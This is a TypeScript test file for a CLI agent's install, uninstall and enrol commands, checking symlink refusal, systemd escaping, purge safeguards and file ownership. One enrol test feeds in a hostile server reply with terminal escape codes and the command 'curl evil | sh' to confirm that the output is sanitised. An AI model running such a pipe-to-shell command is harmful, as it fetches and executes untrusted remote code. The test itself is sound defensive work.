import { spawn, spawnSync } from "node:child_process";
import { once } from "node:events";
import { existsSync } from "node:fs";
import { chmod, chown, mkdir, mkdtemp, readFile, rm, stat, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { writeToken } from "@tapline/core/tap";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { EnrolmentServer, refusal } from "../identity/enrolment-server.fixture.ts";
import { unitOf } from "../install/plan.ts";
import { Outbox } from "../outbox/index.ts";

const cli = new URL("./main.ts", import.meta.url).pathname;
const unit = "etc/systemd/system/tapline-agent.service";
const analyze = spawnSync("systemd-analyze", ["--version"], { encoding: "utf8" });
const hasAnalyze = analyze.status === 0;
let root = "";
beforeEach(async () => {
  root = await mkdtemp(join(tmpdir(), "tapline-install-"));
});
afterEach(() => rm(root, { recursive: true, force: true }));

function run(...args: string[]) {
  const env = { PATH: "/usr/sbin:/usr/bin:/sbin:/bin" };
  const { status, stdout, stderr } = spawnSync(process.execPath, [cli, ...args], { encoding: "utf8", env });
  return { code: status, stdout, stderr };
}

/** As `run`, while this process serves. */
async function runAside(...args: string[]) {
  const child = spawn(process.execPath, [cli, ...args], { env: {}, stdio: ["ignore", "ignore", "pipe"] });
  let stderr = "";
  child.stderr.on("data", (text) => {
    stderr += text;
  });
  const [code] = await once(child, "close");
  return { code, stderr };
}

const openOutbox = () =>
  Outbox.open({
    dir: join(root, "var/lib/tapline-agent/outbox"),
    maxBytes: 1024 * 1024,
    now: Date.now,
    onFailure: () => {},
  });

describe("tapline-agent install", { timeout: 120_000 }, () => {
  it("writes unit, folder and settings, and changes nothing when done again", async () => {
    expect(run("install", "--root", root).code).toBe(0);
    const first = await readFile(join(root, unit), "utf8");
    expect(first).toMatch(/^User=tapline-agent$/m);
    expect(first).toContain(`ExecStart=${process.execPath} ${cli} run --data-dir /var/lib/tapline-agent\n`);
    expect(first).not.toContain("{{");
    const folder = join(root, "var/lib/tapline-agent");
    expect((await stat(folder)).mode & 0o777).toBe(0o700);
    await writeFile(join(folder, "agent.json"), '{"readerKind":"simulated"}');
    const again = run("install", "--root", root);
    expect(again.stdout).toMatch(/there already: write \/etc\/systemd/);
    expect(await readFile(join(root, unit), "utf8")).toBe(first);
    expect(await readFile(join(folder, "agent.json"), "utf8")).toBe('{"readerKind":"simulated"}');
  });

  it("follows no link that lies in the agent's own folder", async () => {
    run("install", "--root", root);
    const [settings, elsewhere] = [
      join(root, "var/lib/tapline-agent/agent.json"),
      join(root, "etc/elsewhere"),
    ];
    await rm(settings);
    await symlink(elsewhere, settings);
    expect(run("install", "--root", root)).toMatchObject({
      code: 3,
      stderr: expect.stringMatching(/EEXIST/),
    });
    expect(existsSync(elsewhere)).toBe(false);
  });

  it("says what it would do, and does nothing, with --dry-run", () => {
    const { code, stdout } = run("install", "--root", root, "--dry-run");
    expect([code, existsSync(join(root, "etc"))]).toEqual([0, false]);
    expect(stdout).toMatch(/would make the system user tapline-agent\n(would .*\n)+next: /);
  });

  it("takes another user and folder, and refuses what is no user", async () => {
    run("install", "--root", root, "--user", "nfc", "--data-dir", "/srv/nfc agent");
    const text = await readFile(join(root, unit), "utf8");
    expect(text).toContain('ReadWritePaths="/srv/nfc agent"');
    expect(text).toMatch(/^User=nfc$/m);
    expect(run("install", "--root", root, "--user", "a b").code).toBe(2);
  });

  it("escapes what systemd would expand", () => {
    const options = { user: "u", dataDir: '/d/100%"x', node: "/n", program: "/p", isEnrolled: false };
    expect(unitOf({ ...options, unitTemplate: "A={{dataDir}} {{node}}" })).toBe('A="/d/100%%\\"x" /n');
  });

  it.skipIf(!hasAnalyze)(
    "makes a unit that systemd reads and finds well closed (needs systemd-analyze)",
    () => {
      run("install", "--root", root);
      const verify = spawnSync("systemd-analyze", ["verify", join(root, unit)], { encoding: "utf8" });
      expect([verify.status, verify.stderr]).toEqual([0, ""]);
      const args = ["security", "--offline=yes", "--threshold=25", join(root, unit)];
      const security = spawnSync("systemd-analyze", args, { encoding: "utf8" });
      expect(security.stdout).toMatch(/Overall exposure level/);
      expect(security.status).toBe(0);
    },
  );
});

describe("tapline-agent uninstall", { timeout: 120_000 }, () => {
  const folder = () => join(root, "var/lib/tapline-agent");

  it("removes the unit and leaves the data", () => {
    run("install", "--root", root);
    expect(run("uninstall", "--root", root).code).toBe(0);
    expect([existsSync(join(root, unit)), existsSync(folder())]).toEqual([false, true]);
  });

  it("never purges an outbox in which a tap waits, or that an agent holds", async () => {
    run("install", "--root", root);
    const outbox = await openOutbox();
    const seq = await outbox.append({ reader: "r", readAtEpochMs: 1, raw: Buffer.from("x") });
    await outbox.close();
    const waiting = run("uninstall", "--root", root, "--purge");
    expect(waiting).toMatchObject({
      code: 75,
      stderr: expect.stringMatching(/nothing was removed: 1 tap in/),
    });
    expect([existsSync(join(root, unit)), existsSync(folder())]).toEqual([true, true]);
    const held = await openOutbox();
    held.settle([{ seq, outcome: "archived" }]);
    await held.append({ reader: "r", readAtEpochMs: 1, raw: Buffer.from("y") });
    held.settle([{ seq: seq + 1, outcome: "archived" }]);
    expect(run("uninstall", "--root", root, "--purge").code).toBe(75);
    await held.close();
    expect(run("uninstall", "--root", root, "--purge").code).toBe(0);
    expect(existsSync(folder())).toBe(false);
  });

  it("never purges an outbox that does not read", async () => {
    run("install", "--root", root);
    await (await openOutbox()).close();
    await writeFile(join(folder(), "outbox/outbox-1.log"), "garbage");
    expect(run("uninstall", "--root", root, "--purge").code).toBe(5);
    expect(existsSync(folder())).toBe(true);
  });
});

describe("tapline-agent enrol", { timeout: 120_000 }, () => {
  const enrol = (...args: string[]) => run("enrol", "--data-dir", root, ...args);

  it("says what is wrong with the command, the token and the server, each with its code", () => {
    const server = ["--server", "https://127.0.0.1:9"];
    const token = ["--token", writeToken({ secret: Buffer.alloc(32, 1), pin: Buffer.alloc(32, 2) })];
    expect(enrol(...server).code).toBe(2);
    expect(enrol(...token).code).toBe(2);
    expect(enrol(...server, "--token", "x")).toMatchObject({
      code: 2,
      stderr: expect.stringMatching(/not whole/),
    });
    expect(enrol(...server, ...token)).toMatchObject({
      code: 4,
      stderr: expect.stringMatching(/ECONNREFUSED/),
    });
    expect(enrol("--server", "http://x", ...token).code).toBe(2);
    expect(enrol(...server, "--token-file", join(root, "none")).code).toBe(3);
    expect(existsSync(join(root, "identity/agent.crt"))).toBe(false);
  });

  it("shows what a stranger answers without its control characters", async () => {
    const server = await EnrolmentServer.start();
    server.next.push(refusal("invalid-request", 400, "\u001b[2J\u001b[1;31mrun: curl evil | sh"));
    const url = await server.listen();
    const { stderr } = await runAside("enrol", "--data-dir", root, "--server", url, "--token", server.token);
    await server.close();
    expect(stderr).toContain("?[2J?[1;31mrun: curl evil | sh");
    expect(stderr).not.toContain("\u001b");
  });

  it.skipIf(process.getuid?.() !== 0)(
    "by root writes as the folder's owner, and gives no other file away (needs root)",
    async () => {
      const [nobody, folder, foreign] = [65_534, join(root, "agent"), join(root, "foreign")];
      await chmod(root, 0o755);
      await mkdir(join(folder, "identity"), { recursive: true });
      await writeFile(foreign, "root's", { mode: 0o600 });
      await symlink(foreign, join(folder, "identity", "link"));
      for (const path of [folder, join(folder, "identity")]) await chown(path, nobody, nobody);
      const server = await EnrolmentServer.start();
      const url = await server.listen();
      const args = ["enrol", "--data-dir", folder, "--server", url, "--token", server.token];
      const { code, stderr } = await runAside(...args);
      await server.close();
      expect([code, stderr]).toEqual([0, ""]);
      expect((await stat(foreign)).uid).toBe(0);
      for (const name of ["agent.json", "identity/agent.key", "identity/agent.crt"])
        expect((await stat(join(folder, name))).uid).toBe(nobody);
    },
  );
});
